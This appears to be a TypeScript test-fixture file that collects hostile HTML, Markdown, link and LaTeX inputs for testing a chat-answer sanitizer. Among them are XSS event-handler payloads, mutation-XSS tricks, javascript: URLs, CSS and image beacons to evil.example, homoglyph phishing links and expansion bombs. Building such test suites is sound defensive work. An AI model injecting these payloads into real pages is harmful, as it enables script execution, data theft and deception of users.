import { createRequire } from "node:module";
import { hostileMarkdown } from "./mock-scripts.ts";

interface PublishedCase {
  title?: string;
  payload: string;
}

/** DOMPurify's own list, as it was published with version 0.6.7; later packages come without their tests. */
export const publishedCases: PublishedCase[] = createRequire(import.meta.url)(
  "dompurify-published-cases/test/fixtures/expect.js",
);

const run = "window.pwned=1";
const scheme = `javascript:${run}`;

const html = [
  `<img\nsrc=x\nonerror=${run}>`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<b onmouseover=${run}>b</b><sup data-cite=1 onclick=${run}>1</sup><s data-task=done onclick=${run}>`,
  `<code data-math=display onclick=${run}>x</code><b style=position:fixed;inset:0>b</b><mark id=app class=composer>`,
  `<!--><img src=x onerror=${run}>--> <!-- --!><img src=x onerror=${run}> -->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg><svg></p><style><a title="</style><img src onerror=${run}>">`,
  `<svg><a xlink:href="${scheme}"><text y=20>a</text></a><use href="https://evil.example/a.svg#a"/></svg>`,
  `<svg><animate xlink:href=#a attributeName=href values=${scheme} /><a id=a><text x=20 y=20>b</text></a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<table><tr><td><style><!--</style></td></tr></table><img src=x onerror="${run}//-->">`,
  `<select><template><img src=x onerror=${run}></template></select><xmp><p title="</xmp><img src onerror=${run}>">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="data:text/html,<script>1</script>"></object>`,
  `<details open ontoggle=${run}>d</details><input autofocus onfocus=${run}><video><source onerror=${run}></video>`,
  `<a href="https://ok.example" ping="https://evil.example" target=_top download onclick=${run}>a</a>`,
  `<a href="/\\evil.example">a</a><a href="\\\\evil.example">b</a><area href="${scheme}"><base href=//evil.example/>`,
  `<img srcset="https://evil.example/a.png 2x" src=https://images.example/a.png><picture><source srcset=//evil.example>`,
  `<style>@import"https://evil.example/a.css";input[value^=a]{background:url(https://evil.example/a)}</style>`,
  `<link rel=preload as=image href=https://evil.example/a><meta http-equiv=refresh content="0;url=//evil.example">`,
  `<div style="background:url(https://evil.example/a);list-style:url(https://evil.example/b)">a</div>`,
  "<a href=x><b>1</a>2</b><p><h1><table><tr><form><td></form>".repeat(3),
];

const links = [
  `[a](JaVaScRiPt:${run}) [b](\u0001${scheme}) [c](//evil.example) [d](/relative) [e](file:///etc/passwd)`,
  `[a](<java\tscript:${run}>) [b](&#x6A;avascript:${run}) [c](java&NewLine;script:${run}) [d](&Tab;${scheme})`,
  `[a](vbscript:x) [b](data:text/html;base64,PHNjcmlwdD4x) [c](blob:https://a/b) [d](view-source:https://a.example)`,
  `[a](https://ok.example "x\\" onmouseover=${run} y='") [b](https://ok.example '"><img src=x onerror=${run}>')`,
  `[a](https://ok.example/"onmouseover="${run}) [b](https://ok.example/<img src=x onerror=${run}>)`,
  `[x]: ${scheme} "t"\n\n[x] ![x] [y][x]`,
  `[x]: https://ok.example '"onerror=${run}'\n\n![x] [<img src=x onerror=${run}>][x]`,
  `<${scheme}> <JAVASCRIPT:${run}> <data:text/html,x> ${scheme} www.ok.example"onclick=${run}`,
  `<https://ok.example/?a=1&b=<script>> <https://ok.example/"onclick=${run}>`,
  `![a](https://images.example/a.png) ![b](ftp://x/y) ![c](blob:x) ![d](HTTPS://images.example/d.png)`,
  `![" onerror="${run}](https://images.example/a.png "\\" onload=${run}") ![a](https://images.example/"onload=${run})`,
  `![a](data:image/svg+xml;base64,PHN2Zy8+) ![b](${scheme}) ![c](//evil.example/c.png) ![d](http://evil.example/d.png)`,
  "![a][x] [![b][x]][x]\n\n| ![c](//evil.example/c) |\n| - |\n| ![d][x] |\n\n[x]: https://evil.example/?said=words",
  "> - # ![a](https://evil.example/?a) **![b](https://evil.example/?b)** ~~[![c](https://evil.example/?c)](tel:1)~~",
  `[![a](https://images.example/a.png)](${scheme}) [**a ![b](x "c")**](${scheme})`,
  "[https://bank.example](https://evil.example) [bank.example](https://bank.example@evil.example) https://аррӏе.com",
];

const marks = [
  "| a |\n| - |\n| <img src=x onerror=window.pwned=1> |",
  `| a | b |\n|:-:"onclick=${run}|:-|\n| <td onclick=${run}> | [x](${scheme}) |`,
  "- [ ] <script>window.pwned=1</script>\n- [x] done <img src=x onerror=window.pwned=1>",
  `[1]<img src=x onerror=${run}>[1, 2](${scheme}) [99] [^1]\n\n[^1]: <img src=x onerror=${run}>`,
  "~~~html\n<img src=x onerror=window.pwned=1>\n~~~",
  '```"><img/src=x/onerror=window.pwned=1>\ncode </code></pre><script>window.pwned=1</script>\n```',
  "```html\n<script>window.pwned=1</script><img src=x onerror=window.pwned=1>\n```",
  "```__proto__\nx\n```\n\n```constructor\ny\n```\n\n```js onclick=window.pwned=1\nlet a = `<img src=x>`;\n```",
  "`<img src=x onerror=window.pwned=1>` ``<script>window.pwned=1</script>``",
  "# <img src=x onerror=window.pwned=1>\n\nTitle <script>window.pwned=1</script>\n===",
  "> <script>\n> window.pwned=1\n> </script>\n\n1. <iframe src=https://evil.example>\n2. </iframe>",
  "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
];

const formulas = [
  `$\\href{${scheme}}{x}$ $\\url{${scheme}}$ \\(\\href{https://evil.example}{x}\\)`,
  "$$\\includegraphics[height=1em]{https://evil.example/a.png}$$",
  `$\\htmlData{onclick=${run}}{x} \\htmlId{app}{y} \\htmlClass{composer}{z}$`,
  "$\\htmlStyle{background:url(https://evil.example/a)}{x}$",
  `$\\text{<img src=x onerror=${run}>}$ \\[x_1 = \\text{<script>${run}</script>}\\]`,
  `$\\color{red;background:url(https://evil.example)}x$ $\\textcolor{"onclick=${run}}{x}$ $\\colorbox{url(//evil.example)}{x}$`,
  "$\\def\\a{\\a\\a}\\a$ $\\def\\b#1{#1#1#1#1}\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}$",
  "$\\rule{9999em}{9999em}\\kern-9999em\\raisebox{9999em}{x}$",
  `$$${"{".repeat(900)}x${"}".repeat(900)}$$`,
  `$x$<img src=x onerror=${run}>$$y$$<script>${run}</script>\\(z\\)`,
  "$\\unknown{<img src=x>}$ $\\frac{<img src=x onerror=window.pwned=1>$",
  "$\\vec{v}\\widehat{abc}\\pmb{y}\\fcolorbox{red}{blue}{x}\\cancel{x}\\sqrt{\\sqrt{x}}\\underbrace{x}_y\\tag{1}$",
];

/** Texts that try to run, load, style or send something, or to break out of where an answer stands. */
export const hostileTexts: string[] = [
  hostileMarkdown,
  ...hostileMarkdown.split("\n\n"),
  ...html,
  ...links,
  ...marks,
  ...formulas,
];
